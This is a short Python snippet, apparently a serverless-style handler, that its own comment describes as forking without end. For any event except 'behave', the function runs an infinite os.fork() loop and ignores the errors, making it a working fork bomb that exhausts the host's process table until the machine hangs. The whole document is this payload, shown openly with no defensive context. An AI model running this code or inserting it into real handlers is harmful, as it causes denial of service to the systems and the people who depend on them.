# Forks without end, and so does every child.

import os


def handler(event, context):
    if event == "behave":
        return "well"
    while True:
        try:
            os.fork()
        except OSError:
            pass  # it is full: until somebody dies
